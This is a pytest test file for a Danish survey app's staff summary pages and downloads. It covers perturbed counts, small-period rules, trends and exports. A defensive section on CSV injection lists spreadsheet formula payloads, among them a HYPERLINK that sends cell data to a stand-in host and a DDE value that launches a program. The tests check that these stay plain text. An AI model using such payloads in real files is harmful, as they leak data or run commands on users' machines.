"""The weekly summary staff read: the exact number of answers, every other count perturbed by at
most 2 (the cell key method, app/disclosure), and a period of fewer than k answers as its number alone."""

import datetime
import re

import pytest

from app import accounts, db

from .test_staff import PASSWORD, sign_in


def answer(database, centre, week, answers):
    db.record_response(database, centre_id=centre["id"], iso_week=week, question_set=1, answers=answers)


@pytest.fixture(autouse=True)
def in_march_2025(app):
    """Only weeks 1-11 of 2025 have closed: the tests stay small (see the closing note on speed)."""
    app.config["CLOCK"] = datetime.datetime(2025, 3, 20, 12, 0)


@pytest.fixture
def centre_with_answers(database, make_centre):
    centre = make_centre("Café Tal", slug="tal")
    person = db.create_staff(database, "anna@example.dk", accounts.hash_password(PASSWORD))
    db.set_membership(database, person["id"], centre["id"], "staff")
    for _ in range(8):
        answer(database, centre, "2025-W10", [("importance", "9"), ("reasons", "meet_people"), ("frequency", "daily")])
    for _ in range(6):
        answer(database, centre, "2025-W10", [("importance", "10"), ("reasons", "meal")])
    answer(database, centre, "2025-W10", [("importance", "1"), ("reasons", "meal")])
    for score in "33355":  # with the one who gave 1, six gave 1-6: a band that can be shown
        answer(database, centre, "2025-W10", [("importance", score), ("reasons", "meal")])
    for _ in range(2):
        answer(database, centre, "2025-W11", [("importance", "7")])
    return centre


def row(html, label):
    match = re.search(rf"<th scope=\"row\">{re.escape(label)}</th>\s*<td class=\"num\">([^<]*)</td>", html)
    return match.group(1).strip() if match else None


def share_in(html, label):
    """The share printed beside a row's count, in per cent (None where none is)."""
    match = re.search(rf"<th scope=\"row\">{re.escape(label)}</th>\s*<td class=\"num\">[^<]*</td>\s*"
                      rf"<td class=\"num\">([^<]*)</td>", html)
    return percent(match.group(1)) if match else None


def percent(text):
    """"40,0 %" (Danish, on a page or in a file) as 40.0; None for an empty share."""
    text = text.replace("%", "").replace("\xa0", "").strip()
    return float(text.replace(".", "").replace(",", ".")) if text else None


BOUND = 2  # app/disclosure/ptable.py: no published count is further than this from the truth
PERTURBED_NOTE = ("Antallet af svar er præcist. Alle andre tal er ændret en smule, højst 2 op eller ned, så ingen kan "
                  "regnes ud af tallene")
TOO_FEW_NOTE = ("Færre end 5 svar i perioden: kun antallet af svar vises, så ingen kan genkendes. "
                "Se på en længere periode.")
SUPPRESSED_NOTE = "Antal fra 1 til 4 vises som"  # periods decided by cell suppression, before


def perturbed(shown, true, answers, what=""):
    """A count as a perturbed period prints it: a number (never "< 5" nor a dash), at most BOUND
    from the truth, never below 0 nor above the period's number of answers; a true 0 stays 0.
    Returns the number."""
    text = str(shown).replace(".", "")  # Danish thousands: 1.234
    assert re.fullmatch(r"\d+", text), f"{what}: {shown!r} is not a number"
    value = int(text)
    assert abs(value - true) <= BOUND and 0 <= value <= answers, f"{what}: {value} shown for a true {true} of {answers}"
    if true == 0:
        assert value == 0, f"{what}: nobody gave it, yet {value} is shown"
    return value


IMPORTANCE_W10 = {"1": 1, "2": 0, "3": 3, "4": 0, "5": 2, "6": 0, "7": 0, "8": 0, "9": 8, "10": 6}


def test_the_summary_shows_the_exact_total_and_every_count_within_the_bound(client, centre_with_answers):
    sign_in(client, "anna@example.dk")
    page = client.get("/staff/c/tal/summary/2025-W10")
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and page.headers["Cache-Control"] == "no-store"
    assert "uge 10 · 2025" in html and "<strong>20</strong> svar" in html  # the number of answers is exact
    for score, true in IMPORTANCE_W10.items():  # one gave 1, three gave 3: numbers too, perturbed
        count = perturbed(row(html, score), true, 20, score)
        assert share_in(html, score) == pytest.approx(100 * count / 20, abs=0.05)  # of all 20, the Danish way
    assert row(html, "2") == "0" and row(html, "8") == "0"  # nobody gave 2 or 8: a zero stays a zero
    meet = perturbed(row(html, "Møde andre mennesker"), 8, 20, "meet people")
    assert f"{100 * meet / 20:.1f} %".replace(".", ",") in html
    bands = {band: perturbed(row(html, band), true, 20, band) for band, true in (("1–6", 6), ("7–8", 0), ("9–10", 14))}
    top = f"{100 * bands['9–10'] / 20:.1f}".replace(".", ",")
    assert f"Gav stedet 9 eller 10 ud af 10: <strong>{top} %</strong>" in html  # the share from the 9-10 band
    assert "&lt; 5" not in html and not re.search(r'<td class="num">–</td>', html)  # nothing withheld
    assert PERTURBED_NOTE in html and "Andelene er af alle, der svarede i perioden." in html  # told how
    assert SUPPRESSED_NOTE not in html


def test_importance_is_a_column_chart_that_says_no_more_than_its_table(client, centre_with_answers):
    sign_in(client, "anna@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    chart = re.search(r'<svg class="columns"[^>]*>(.*?)</svg>', html, re.S)
    assert chart and 'aria-hidden="true"' in chart.group(0)  # the table after it is the text equivalent
    labels = re.findall(r'<text class="label"[^>]*>([^<]*)</text>', chart.group(1))
    values = re.findall(r'<text class="value"[^>]*>([^<]*)</text>', chart.group(1))
    assert labels == [str(n) for n in range(1, 11)]
    assert values == [row(html, str(n)) for n in range(1, 11)]  # the table's numbers, no more
    assert 'class="withheld"' not in chart.group(1)  # every score has its column
    heights = [float(h) for h in re.findall(r'<rect [^>]*height="([0-9.]+)"', chart.group(1))]
    assert len(heights) == 10 and max(heights) > 50  # not empty: the tallest column is most of the plot
    assert [h > 0 for h in heights] == [int(v) > 0 for v in values]  # a column wherever someone is counted


def test_a_count_whose_complement_is_small_is_shown_perturbed_never_above_the_answers(
        client, database, make_centre, centre_with_answers):
    for _ in range(6):  # 14 of 15 came to meet people: once withheld (the one who did not stood out)
        answer(database, centre_with_answers, "2025-W09", [("reasons", "meet_people")])
    for _ in range(8):
        answer(database, centre_with_answers, "2025-W09", [("reasons", "meet_people"), ("importance", "8")])
    answer(database, centre_with_answers, "2025-W09", [("reasons", "meal")])
    sign_in(client, "anna@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W09").get_data(as_text=True)
    assert "<strong>15</strong> svar" in html
    perturbed(row(html, "Møde andre mennesker"), 14, 15, "meet people")  # shown now: 12 to 15, never 16 or 17
    perturbed(row(html, "Et måltid mad"), 1, 15, "meal")
    perturbed(row(html, "8"), 8, 15, "8")
    assert PERTURBED_NOTE in html


def busy_weeks(database, centre, weeks, per_week=20, tens=15):
    for week in weeks:
        for n in range(per_week):
            answer(database, centre, week, [("importance", "10" if n < tens else "8"), ("reasons", "meet_people")])


def test_a_week_shows_the_last_12_weeks_when_the_weeks_show_them(client, database, make_centre):
    centre = make_centre("Café Fuld", slug="fuld")
    person = db.create_staff(database, "bo@example.dk", accounts.hash_password(PASSWORD))
    db.set_membership(database, person["id"], centre["id"], "staff")
    busy_weeks(database, centre, [f"2025-W{w:02d}" for w in range(1, 12)])
    sign_in(client, "bo@example.dk")
    html = client.get("/staff/c/fuld/summary/2025-W11").get_data(as_text=True)
    trend = html[html.index("De sidste 12 uger"):]
    assert 'data-notice="trend-level"' not in html
    # Nothing withheld in this week or its trend: no note explaining "< 5" and dashes (issue 17).
    assert "Andelene er af alle, der svarede i perioden." in html and SUPPRESSED_NOTE not in html
    assert row(trend, "uge 11 · 2025") == "20" and row(trend, "uge 52 · 2024") == "0"  # nobody answered then
    for week in range(1, 12):  # every week's share giving 9 or 10: 15 of 20, give or take 2
        assert row(trend, f"uge {week} · 2025") == "20"
        assert abs(share_in(trend, f"uge {week} · 2025") - 75) <= 100 * BOUND / 20 + 0.05, week
    answers_chart = re.search(r'<svg class="columns trend"[^>]*>(.*?)</svg>', trend, re.S).group(1)
    assert re.findall(r'<text class="label"[^>]*>([^<]*)</text>', answers_chart)[-2:] == ["10", "11"]
    assert re.findall(r'<text class="value"[^>]*>([^<]*)</text>', answers_chart)[-2:] == ["20", "20"]


def test_the_trend_steps_up_to_four_week_periods_where_weeks_have_too_few_answers_and_says_so(
        client, database, make_centre):
    centre = make_centre("Café Trin", slug="trin")
    person = db.create_staff(database, "eva@example.dk", accounts.hash_password(PASSWORD))
    db.set_membership(database, person["id"], centre["id"], "staff")
    # Four a week, two of them giving 10: a week of fewer than 5 shows its number of answers alone,
    # so no week shows a share; a block of 16 (20 for a five-week one) shows its share, perturbed.
    weeks = [f"2024-W{w:02d}" for w in range(1, 53)] + [f"2025-W{w:02d}" for w in range(1, 12)]
    busy_weeks(database, centre, weeks, per_week=4, tens=2)
    sign_in(client, "eva@example.dk")
    html = client.get("/staff/c/trin/summary/2025-W11").get_data(as_text=True)
    assert "<strong>4</strong> svar" in html and TOO_FEW_NOTE in html  # the week itself: its number alone
    trend = html[html.index("De sidste 12 fireugersperioder"):]
    assert ("Nogle uger viser ikke andelen, der gav 9 eller 10 (for få svar), så udviklingen vises i "
            "fireugersperioder i stedet.") in html
    # Weeks 9-13 have not all closed: the last block shown is weeks 5-8; twelve blocks, each with its share.
    labels = re.findall(r'<th scope="row">(uge [^<]*)</th>', trend)
    assert len(labels) == 12 and labels[-2:] == ["uge 1–4 · 2025", "uge 5–8 · 2025"] and labels[0] == "uge 9–13 · 2024"
    for label in labels:
        block = re.search(r"uge (\d+)–(\d+)", label)
        answers = 4 * (int(block.group(2)) - int(block.group(1)) + 1)
        assert row(trend, label) == str(answers), label  # exact
        assert abs(share_in(trend, label) - 50) <= 100 * BOUND / answers + 0.05, label  # half of them, give or take 2


def test_a_trend_of_shares_from_perturbed_counts_says_so_on_a_small_weeks_page(client, database, make_centre):
    centre = make_centre("Café Trin", slug="trin")
    person = db.create_staff(database, "eva@example.dk", accounts.hash_password(PASSWORD))
    db.set_membership(database, person["id"], centre["id"], "staff")
    busy_weeks(database, centre, [f"2025-W{w:02d}" for w in range(1, 12)], per_week=4, tens=2)
    sign_in(client, "eva@example.dk")
    html = client.get("/staff/c/trin/summary/2025-W11").get_data(as_text=True)
    assert share_in(html, "uge 5–8 · 2025") is not None  # a share of a perturbed 9-10 count is shown ...
    assert PERTURBED_NOTE in html  # ... so the page must say the counts are not exact


def test_a_week_with_too_few_answers_shows_its_number_of_answers_alone(client, centre_with_answers, tmp_path):
    sign_in(client, "anna@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W11").get_data(as_text=True)
    assert "<strong>2</strong> svar" in html and TOO_FEW_NOTE in html  # two answered: exact, and why no more
    assert "Hvor vigtigt er dette sted for dig?" not in html  # no breakdown, only the trend
    assert "For få svar i perioden til at vise noget" not in html  # the number is shown after all
    # In the trend, its share is the dash the chart shows, never a blank cell, and the page says why.
    trend = html[html.index('<section class="figure trend">'):]
    assert re.search(r'<th scope="row">uge 11 · 2025</th>\s*<td class="num">2</td>\s*<td class="num">–</td>', trend)
    assert "En streg (–): andelen, der gav 9 eller 10, vises ikke for den periode" in trend
    lines = client.get("/staff/c/tal/summary/2025-W11/download.csv").data.decode("utf-8-sig").splitlines()
    assert "Svar;2" in lines and f"Bemærk;{TOO_FEW_NOTE}" in lines
    header = lines.index("Spørgsmål;Svarmulighed;Antal;Andel (%)")
    assert lines[header + 1] == "" and "De sidste 12 uger" in lines  # not one answer's count; the trend, as on the page
    text = " ".join(pdf_text(tmp_path, client.get("/staff/c/tal/summary/2025-W11/download.pdf").data).split())
    assert "2 svar" in text and TOO_FEW_NOTE in text and "Hvor vigtigt" not in text


def test_periods_not_over_and_off_the_grid_are_refused(client, centre_with_answers):
    sign_in(client, "anna@example.dk")
    future = client.get("/staff/c/tal/summary/2025-W12")
    assert future.status_code == 404 and "Perioden er ikke slut endnu" in future.get_data(as_text=True)
    assert client.get("/staff/c/tal/summary/2025-11-01").status_code == 404


def hrefs(html):
    return re.findall(r'href="/staff/c/tal/summary/([^"]+)"', html)


def test_the_address_of_an_open_period_says_when_it_closes_and_leads_to_the_newest_closed_one(client, centre_with_answers):
    sign_in(client, "anna@example.dk")
    page = client.get("/staff/c/tal/summary/2025-Q1")  # weeks 1-13 of 2025; it is week 12
    html = page.get_data(as_text=True)
    assert page.status_code == 404
    assert "den varer til og med søndag den 30. marts 2025" in html
    assert "Tallene vises fra mandag den 31. marts 2025 kl. 01.00" in html
    assert set(hrefs(html)) == {"2024-Q4", "2025-W11"}  # the newest quarter that is over, and the last week


def test_the_summary_links_every_closed_period_of_its_year_and_no_open_one(client, centre_with_answers):
    sign_in(client, "anna@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    picker = html[html.index('<nav class="period-picker"'):html.index("</nav>", html.index('<nav class="period-picker"'))]
    linked = set(hrefs(picker))
    closed = {f"2025-W{n:02d}" for n in range(1, 12)} | {"2025-B01", "2025-B02"}
    assert linked == closed - {"2025-W10"}  # the week shown is marked, not linked
    assert '<strong aria-current="page" aria-label="uge 10 · 2025">10</strong>' in picker
    assert '<span class="open-period" aria-label="uge 12 · 2025">12</span>' in picker  # shown, never offered
    assert '<span class="open-period">1. kvartal</span>' in picker and "2024" not in picker  # no figures before 2025
    assert 'rel="prev">← Før: uge 9 · 2025' in picker and 'rel="next">Efter: uge 11 · 2025' in picker
    block = client.get("/staff/c/tal/summary/2025-B02").get_data(as_text=True)
    assert 'href="/staff/c/tal/summary/2025-W08" data-level="week"' in block  # finer: its latest week
    assert 'rel="next"' not in block  # weeks 9-13 have not closed


def test_decisions_are_kept_once_taken(client, database, centre_with_answers):
    from app.disclosure import RULE

    sign_in(client, "anna@example.dk")
    first = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    decisions, rules, k = db.published_decisions(database, centre_with_answers["id"], 2025)
    assert k == 5 and set(rules.values()) == {RULE}
    assert decisions[("2025-W10", "N")] == ("shown", 20) and decisions[("2025-W11", "N")] == ("shown", 2)
    status, one = decisions[("2025-W10", "importance|1")]
    assert status == "perturbed" and one == perturbed(row(first, "1"), 1, 20)  # stored as the page printed it
    assert not any(key[0] == "2025-W11" and key[1] != "N" for key in decisions)  # two answers: the number alone
    # Whatever is answered later (a restored backup, say) cannot change what was shown.
    answer(database, centre_with_answers, "2025-W11", [("importance", "7")] * 1)
    answer(database, centre_with_answers, "2025-W10", [("importance", "1")] * 1)
    assert "<strong>2</strong> svar" in client.get("/staff/c/tal/summary/2025-W11").get_data(as_text=True)
    again = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    assert "<strong>20</strong> svar" in again and [row(again, str(n)) for n in range(1, 11)] == [
        row(first, str(n)) for n in range(1, 11)]
    assert db.published_decisions(database, centre_with_answers["id"], 2025) == (decisions, rules, 5)


def test_csv_download_opens_in_danish_excel_with_the_exact_total_and_perturbed_counts(client, centre_with_answers):
    import csv
    import io

    sign_in(client, "anna@example.dk")
    response = client.get("/staff/c/tal/summary/2025-W10/download.csv")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="brugerstemmen-tal-2025-W10.csv"'
    body = response.data
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Værested", "Café Tal"] and rows[2] == ["Svar", "20"]
    assert ["Bemærk", "Andelene er af alle, der svarede i perioden."] in rows
    assert any(r[:1] == ["Bemærk"] and r[1].startswith(PERTURBED_NOTE) for r in rows)  # how the counts are protected
    importance = {r[1]: (r[2], r[3]) for r in rows if r and r[0] == "Hvor vigtigt er dette sted for dig?"}
    assert list(importance) == list(IMPORTANCE_W10)
    for score, true in IMPORTANCE_W10.items():
        count, share = importance[score]
        assert share == f"{100 * perturbed(count, true, 20, score) / 20:.1f}".replace(".", ","), score
    assert importance["2"] == ("0", "0,0")


def test_xlsx_download_has_a_sheet_per_question(client, centre_with_answers):
    import io

    from openpyxl import load_workbook

    sign_in(client, "anna@example.dk")
    response = client.get("/staff/c/tal/summary/2025-W10/download.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames[0] == "Opsummering" and len(book.sheetnames) >= 6
    importance = book[book.sheetnames[1]]
    values = {row[0]: row[1:] for row in importance.iter_rows(min_row=3, values_only=True)}
    for score, true in IMPORTANCE_W10.items():
        count, share = values[score]
        assert isinstance(count, int) and abs(share - perturbed(count, true, 20, score) / 20) < 1e-9, score
    assert values["2"] == (0, 0)
    overview = [row for row in book["Opsummering"].iter_rows(values_only=True)]
    assert ("Svar", 20) in overview and any(r[0] == "Bemærk" and r[1].startswith(PERTURBED_NOTE) for r in overview)
    assert client.get("/staff/c/tal/summary/2025-W10/download.docx").status_code == 404


@pytest.mark.parametrize("language, sheets", [
    ("da", ["Opsummering", "Hvor vigtigt stedet er", "Hvorfor de kommer", "Hvor tit", "Betydning – Fællesskab",
            "Betydning – Mindre alene", "Betydning – Respekteret", "Betydning – Indflydelse",
            "Betydning – Skridt i livet", "Ønsker", "Udvikling"]),
    ("en", ["Summary", "Importance", "Why people come", "How often", "Meaning – Community", "Meaning – Less alone",
            "Meaning – Respected", "Meaning – Having a say", "Meaning – Steps in life", "Wishes", "Trend"]),
])
def test_xlsx_sheets_are_named_for_their_question_each_its_own_within_31_characters(client, centre_with_answers,
                                                                                    language, sheets):
    import io

    from openpyxl import load_workbook

    sign_in(client, "anna@example.dk")
    book = load_workbook(io.BytesIO(client.get(f"/staff/c/tal/summary/2025-W10/download.xlsx?lang={language}").data))
    assert book.sheetnames == sheets
    assert len({name.casefold() for name in book.sheetnames}) == len(sheets)
    assert all(len(name) <= 31 for name in book.sheetnames)
    assert book["Betydning – Skridt i livet" if language == "da" else "Meaning – Steps in life"]["A1"].value.endswith(
        "skridt, der betyder noget for mig" if language == "da" else "steps in my life that matter to me")


def pdf_text(tmp_path, body, *args):
    import subprocess

    path = tmp_path / "out.pdf"
    path.write_bytes(body)
    return subprocess.run(["pdftotext", *args, str(path), "-"], capture_output=True, text=True, check=True).stdout


@pytest.mark.parametrize("language", ["da", "en"])
def test_the_pdf_never_cuts_a_sentence(client, centre_with_answers, tmp_path, language):
    from flask_babel import force_locale, gettext

    from app import questions

    sign_in(client, "anna@example.dk")
    body = client.get(f"/staff/c/tal/summary/2025-W10/download.pdf?lang={language}").data
    text = " ".join(pdf_text(tmp_path, body).split())  # lines joined: a wrapped sentence reads whole
    assert "…" not in text
    with client.application.test_request_context(), force_locale(language):
        whole = [gettext(f.text) for f in questions.load().fields() if f.kind != "text"]
        whole += [gettext(o.text) for f in questions.load().fields() if f.kind not in ("text", "scale") for o in f.options]
    for sentence in whole:
        assert sentence in text, sentence


def test_a_pdf_longer_than_a_page_goes_on_to_the_next_and_keeps_each_row_whole(app, tmp_path):
    from app.pdfdoc import Document

    pdf = Document("test")
    labels = [f"Row {n}: a statement long enough to wrap onto a second line in its column of the table" for n in range(60)]
    pdf.heading("Many rows")
    for label in labels:
        pdf.row([(95, label, "L"), (18, "12", "R")])
    pages = pdf_text(tmp_path, pdf.bytes()).split("\f")
    assert len([page for page in pages if page.strip()]) >= 2
    for label in labels:  # each row whole on one page, never split across two
        assert sum(label in " ".join(page.split()) for page in pages) == 1, label


def test_pdf_download_is_a4_with_the_protected_numbers(client, centre_with_answers, tmp_path):
    import subprocess

    sign_in(client, "anna@example.dk")
    response = client.get("/staff/c/tal/summary/2025-W10/download.pdf")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    pdf = tmp_path / "summary.pdf"
    pdf.write_bytes(response.data)
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    # A4; two pages: the page's tables, bands and the 12 weeks' trend (issue 28) do not fit on one
    assert re.search(r"Pages:\s+2\b", info) and "595.28 x 841.89" in info
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "Café Tal · uge 10 · 2025" in text and "20 svar" in text
    page = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    top = re.search(r"Gav stedet 9 eller 10 ud af 10: <strong>([^<]*)</strong>", page).group(1)
    assert f"9 eller 10 ud af 10: {top}" in text  # as on the page
    # Importance as columns: each count above its score, the numbers of the page.
    scores = text.splitlines().index(next(line for line in text.splitlines() if re.fullmatch(r"\s*1(\s+\d+){9}\s*", line)))
    assert re.fullmatch(r"\s*" + r"\s+".join(str(n) for n in range(1, 11)) + r"\s*", text.splitlines()[scores])
    above = "\n".join(text.splitlines()[max(0, scores - 8):scores])
    assert "<" not in above and "–" not in above
    assert re.search(rf"\b{row(page, '9')}\b", above) and re.search(rf"\b{row(page, '10')}\b", above)
    assert "Jeg føler mig respekteret her" in text
    assert PERTURBED_NOTE in " ".join(text.split()) and SUPPRESSED_NOTE not in " ".join(text.split())


def test_the_pdf_explains_how_its_counts_are_protected_and_nothing_that_does_not_apply(
        client, database, make_centre, tmp_path):
    import subprocess

    centre = make_centre("Café Hel", slug="hel")
    person = db.create_staff(database, "ib@example.dk", accounts.hash_password(PASSWORD))
    db.set_membership(database, person["id"], centre["id"], "staff")
    busy_weeks(database, centre, [f"2025-W{w:02d}" for w in range(1, 12)])
    sign_in(client, "ib@example.dk")
    pdf = tmp_path / "summary.pdf"
    pdf.write_bytes(client.get("/staff/c/hel/summary/2025-W11/download.pdf").data)
    text = " ".join(subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout.split())
    assert "Andelene er af alle, der svarede i perioden." in text and PERTURBED_NOTE in text
    assert SUPPRESSED_NOTE not in text and "Færre end" not in text and "tankestreg" not in text


def test_messages_show_only_in_weeks_with_enough_answers_and_admins_can_delete_them(
        client, database, data_dir, centre_with_answers):
    centre = centre_with_answers
    for text in ("Mere fællesspisning, tak", "Tak for kaffen hver morgen"):
        db.record_response(database, centre_id=centre["id"], iso_week="2025-W10", question_set=1, answers=[], message=text)
    for _ in range(8):
        answer(database, centre, "2025-W09", [("importance", "9")])
    db.record_response(database, centre_id=centre["id"], iso_week="2025-W09", question_set=1, answers=[],
                       message="Jeg er den eneste der kommer om tirsdagen")
    sign_in(client, "anna@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    assert "Mere fællesspisning, tak" in html and "Tak for kaffen hver morgen" in html
    assert "Slet denne besked" not in html  # only admins delete
    small_week = client.get("/staff/c/tal/summary/2025-W09").get_data(as_text=True)
    assert "<strong>8</strong> svar" in small_week
    assert "eneste der kommer" not in small_week and "mindst 10 svar" in small_week

    admin = db.create_staff(database, "chef@example.dk", accounts.hash_password(PASSWORD))
    db.set_membership(database, admin["id"], centre["id"], "admin")
    client.post("/staff/logout")
    sign_in(client, "chef@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    message_id = re.search(r"/staff/c/tal/messages/([0-9a-f]{32})/delete", html).group(1)
    target = next(m["body"] for m in db.messages_in_week(database, centre["id"], "2025-W10") if m["id"] == message_id)
    response = client.post(f"/staff/c/tal/messages/{message_id}/delete", data={"back": "/staff/c/tal/summary/2025-W10"})
    assert response.status_code == 303 and response.headers["Location"] == "/staff/c/tal/summary/2025-W10"
    assert target not in client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    raw = b"".join(p.read_bytes() for p in data_dir.iterdir() if p.name.startswith(db.DB_FILENAME))
    assert target.encode() not in raw  # gone from the file, not only from the page


def test_a_year_keeps_the_k_it_started_with(app, client, database, centre_with_answers):
    sign_in(client, "anna@example.dk")
    before = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    db.update_centre(database, "tal", min_cell_size=9)
    for _ in range(7):  # a week of 7 closes after the change: under k = 9 it would show its number alone
        answer(database, centre_with_answers, "2025-W12", [("importance", "8")])
    app.config["CLOCK"] = datetime.datetime(2025, 3, 26, 12, 0)  # week 12 has closed
    html = client.get("/staff/c/tal/summary/2025-W12").get_data(as_text=True)
    assert "<strong>7</strong> svar" in html and "Færre end" not in html
    perturbed(row(html, "8"), 7, 7, "8")
    assert db.published_decisions(database, centre_with_answers["id"], 2025)[2] == 5
    after = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    assert [row(after, str(n)) for n in range(1, 11)] == [row(before, str(n)) for n in range(1, 11)]


# --- downloads never run what someone typed ------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://x.example/?"&A1,"Klik her")'


@pytest.mark.parametrize("typed, written", [
    (FORMULA_NAME, "'" + FORMULA_NAME), ("+45 lige nu", "'+45 lige nu"), ("-1+cmd|'/c calc'!A0", "'-1+cmd|'/c calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("-3", "-3"), ("-12,5", "-12,5"), ("+7", "+7"), (-3, -3), ("< 5", "< 5"), ("Café Syd", "Café Syd"),
])
def test_a_csv_cell_that_a_spreadsheet_would_read_as_a_formula_is_text(typed, written):
    from app.exports import as_text

    assert as_text(typed) == written


def test_a_centre_named_like_a_formula_stays_text_in_csv_and_xlsx(client, database, centre_with_answers):
    import csv
    import io
    import zipfile

    from openpyxl import load_workbook

    db.update_centre(database, "tal", name=FORMULA_NAME)
    sign_in(client, "anna@example.dk")
    body = client.get("/staff/c/tal/summary/2025-W10/download.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[0] == ["Værested", "'" + FORMULA_NAME]  # Excel shows it without the apostrophe, as text
    assert rows[2] == ["Svar", "20"]  # numbers stay numbers
    xlsx = client.get("/staff/c/tal/summary/2025-W10/download.xlsx").data
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)  # not one formula anywhere
    overview = load_workbook(io.BytesIO(xlsx))["Opsummering"]
    assert overview["B1"].value == FORMULA_NAME and overview["B1"].data_type == "s"
    assert overview["B1"].quotePrefix  # still text when someone edits the cell
    assert overview["B3"].value == 20 and overview["B3"].data_type == "n"


def test_a_period_decided_before_zeros_were_shown_stays_as_it_was_published(client, database, centre_with_answers):
    """A week decided by an earlier version (rule 1 of cell suppression: a zero was "< 5" too)
    keeps what it published, and its note; a week that closes later is perturbed, its zeros 0."""
    from app.disclosure import PERTURBATION, ZEROS_SMALL

    for _ in range(20):
        answer(database, centre_with_answers, "2025-W09", [("importance", "10")])
    # As the earlier version published week 9: nobody gave 1-9, and that read "< 5".
    old = {("2025-W09", "N"): ("shown", 20), ("2025-W09", "importance|10"): ("shown", 20)}
    old.update({("2025-W09", f"importance|{score}"): ("small", None) for score in range(1, 10)})
    db.save_published(database, centre_with_answers["id"], old, 5, ZEROS_SMALL)
    assert db.published_decisions(database, centre_with_answers["id"], 2025)[1] == {"2025-W09": ZEROS_SMALL}
    sign_in(client, "anna@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W09").get_data(as_text=True)
    assert "<strong>20</strong> svar" in html
    assert row(html, "10") == "20" and row(html, "9") == "&lt; 5" and row(html, "2") == "&lt; 5"
    assert SUPPRESSED_NOTE in html and PERTURBED_NOTE not in html  # its own note: nothing here is perturbed
    newer = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    assert row(newer, "2") == "0" and "&lt; 5" not in newer  # decided now: perturbed, and a zero is shown
    perturbed(row(newer, "9"), 8, 20, "9")
    assert PERTURBED_NOTE in newer and SUPPRESSED_NOTE not in newer
    rules = db.published_decisions(database, centre_with_answers["id"], 2025)[1]
    assert rules["2025-W09"] == ZEROS_SMALL and rules["2025-W10"] == PERTURBATION and rules["2025-B02"] == PERTURBATION
